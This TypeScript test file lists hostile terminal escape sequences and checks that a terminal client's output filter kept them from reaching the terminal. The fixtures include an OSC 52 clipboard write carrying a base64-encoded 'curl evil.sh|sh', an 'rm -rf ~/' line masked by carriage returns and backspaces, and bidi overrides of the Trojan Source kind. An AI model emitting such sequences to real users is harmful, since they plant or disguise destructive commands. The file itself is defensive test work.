/**
 * Control sequences a hostile model, endpoint or repository puts in text the
 * terminal client prints, and the checks that none of them reached the
 * terminal. The checks are written independently of the client's own filter
 * (client/src/terminal/inertText.ts), so a gap in it cannot hide here.
 */

export interface HostileSequence {
  /** Short id; also the visible tag `[id]` that starts the text, proving the text was shown at all. */
  id: string;
  what: string;
  text: string;
}

const clipboard = Buffer.from('curl evil.sh|sh\n').toString('base64');

function entry(id: string, what: string, sequence: string): HostileSequence {
  return { id, what, text: `[${id}]${sequence}` };
}

export const HOSTILE_SEQUENCES: readonly HostileSequence[] = [
  entry('osc52bel', 'OSC 52 clipboard write, BEL-terminated', `\x1b]52;c;${clipboard}\x07`),
  entry('osc52st', 'OSC 52 clipboard write, ST-terminated', `\x1b]52;p;${clipboard}\x1b\\`),
  entry('osc8', 'OSC 8 hyperlink', '\x1b]8;;https://evil.example/x\x1b\\click\x1b]8;;\x1b\\'),
  entry('osc0', 'OSC 0 window and icon title', '\x1b]0;pwned-title\x07'),
  entry('osc2', 'OSC 2 window title, ST-terminated', '\x1b]2;pwned-title\x1b\\'),
  entry('clear', 'CSI 2J clear screen and CSI H home', '\x1b[2J\x1b[H'),
  entry('cursor', 'CSI cursor moves and line erase', '\x1b[10;5H\x1b[3A\x1b[2K'),
  entry('conceal', 'SGR conceal (hides what follows)', '\x1b[8mhidden\x1b[28m'),
  entry('reset', 'RIS full terminal reset', '\x1bc'),
  entry('dcs', 'DCS query (XTGETTCAP)', '\x1bP+q544e\x1b\\'),
  entry('apc', 'APC string (kitty graphics)', '\x1b_Ga=T;AAAA\x1b\\'),
  entry('pm', 'PM string', '\x1b^private\x1b\\'),
  entry('sos', 'SOS string', '\x1bXstart-of-string\x1b\\'),
  entry('c1csi', '8-bit CSI (U+009B) clear screen', '\u009b2J\u009bH'),
  entry('c1osc', '8-bit OSC (U+009D) clipboard write with 8-bit ST', `\u009d52;c;${clipboard}\u009c`),
  entry('c1dcs', '8-bit DCS (U+0090)', '\u0090+q544e\u009c'),
  entry('c1nel', '8-bit NEL and IND (U+0085, U+0084)', 'a\u0085b\u0084c'),
  entry('cr', 'lone CR overwriting the line', 'rm -rf ~/\rsafe: ls'),
  entry('bs', 'backspaces erasing what was shown', 'rm -rf ~\x08\x08\x08\x08\x08\x08\x08\x08ls -l  '),
  entry('bel', 'BEL and other C0 controls', 'ding\x07\x00\x0b\x0c\x0e\x1a'),
  entry('del', 'DEL', 'x\x7fy'),
  entry('rlo', 'bidi override (Trojan Source)', 'if (isAdmin) {\u202e } \u2066// only admins\u2069 \u2066'),
  entry('isolates', 'bidi embeddings and isolates', '\u202a\u202b\u202c\u202d\u2067\u2068\u2069 text'),
];

/** Characters a terminal acts on that the client never prints itself. */
const ACTIVE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

/** The first few characters from a sequence's first active character on: what must never reach the terminal. */
export function activePart(sequence: HostileSequence): string {
  const at = sequence.text.search(ACTIVE);
  return sequence.text.slice(at, at + 4);
}

/** The client's own escape sequences: SGR colours, and in a pseudo-terminal readline's redraw of the prompt. */
const OWN_SGR = /\x1b\[[0-9;]*m/g;
/** readline redraws the prompt: to column 1, erase below, the prompt, to the column after it. */
const READLINE_PROMPT = /\x1b\[1G\x1b\[0J(?:\x1b\[36m)?› (?:\x1b\[39m)?\x1b\[3G/g;
/**
 * The client's own controls in a terminal: bracketed paste on and off, the
 * spinner's clearing of its line (column 1, erase the line, a row up), and a
 * streamed Markdown block erased to be redrawn (column 1, rows up, erase below).
 */
const OWN_TERMINAL_CONTROLS = /\x1b\[\?2004[hl]|\x1b\[1G|\x1b\[0K|\x1b\[\d+A|\x1b\[J/g;

export interface TerminalBytesVerdict {
  /** Active characters (as U+XXXX) left after taking out the client's own sequences. */
  foreign: string[];
  /** Each hostile sequence whose active part is in the output. */
  reached: string[];
  /** Each hostile sequence whose tag was shown: the text did get to the terminal, inert. */
  shown: string[];
}

/**
 * Judges what the client wrote. `pty` output has the line discipline's CRLF
 * and readline's prompt redraws; `typed` are the lines typed into it, which
 * the terminal echoes followed by the CR of Enter.
 */
export function judgeTerminalOutput(output: string, options: { pty?: boolean; typed?: string[]; tried?: readonly HostileSequence[] } = {}): TerminalBytesVerdict {
  let rest = output.replace(OWN_SGR, '');
  if (options.pty) {
    rest = output.replace(READLINE_PROMPT, '').replace(OWN_SGR, '').replace(OWN_TERMINAL_CONTROLS, '').replace(/\r\n/g, '\n');
    for (const line of options.typed ?? []) rest = rest.split(`${line}\r`).join(line);
  }
  const foreign = new Set<string>();
  for (const char of rest) if (ACTIVE.test(char)) foreign.add(`U+${char.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`);
  const tried = options.tried ?? HOSTILE_SEQUENCES;
  return {
    foreign: [...foreign],
    reached: tried.filter((s) => output.includes(activePart(s))).map((s) => s.id),
    shown: tried.filter((s) => output.includes(`[${s.id}]`)).map((s) => s.id),
  };
}

/** A sequence as a file name: no slash, no NUL. */
export function asFileName(sequence: HostileSequence): string {
  return `f${sequence.text.replace(/[/\x00]/g, '_')}.txt`;
}
